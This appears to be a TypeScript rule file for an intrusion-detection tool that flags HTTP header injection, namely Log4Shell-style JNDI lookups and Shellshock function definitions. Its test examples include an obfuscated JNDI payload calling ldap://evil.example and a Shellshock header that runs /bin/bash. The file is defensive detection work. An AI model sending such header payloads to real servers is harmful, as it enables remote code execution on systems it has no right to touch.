import { packScenario, requests } from './pack-scenario.ts';

const header = /\(\)\s*\{\s*[:_]?;|\$\{[^}]{0,40}(?:jndi|\$\{)/i;

const inHeader = (text: string) => text.includes('{') && header.test(text.slice(0, 1024));

export const httpHeaderInjection = packScenario({
  name: 'bugheist/http-header-injection',
  description: 'Sent commands in a header (JNDI look-ups, shell functions)',
  weakness: 'CWE-78',
  advice: 'Search outgoing connections of the server around this time: a working attack calls home.',
  kinds: ['http-access'],
  when: (event) => inHeader(event.ua) || inHeader(event.ref),
  capacity: 1,
  leakMs: 600_000,
  behavior: 'http:exploit',
  service: 'http',
  confidence: 3,
  examples: {
    attacks: [
      requests(2, 'GET /', { agent: '\x24{\x24{::-j}ndi:ldap://evil.example/a}', status: 200 }),
      requests(2, 'GET /cgi-bin/a', { agent: '() { :; }; /bin/bash -c id' }),
    ],
    ordinary: [requests(20, 'GET /', { status: 200, agent: 'Reader/1.0 ({build}; {{os}})' })],
  },
});
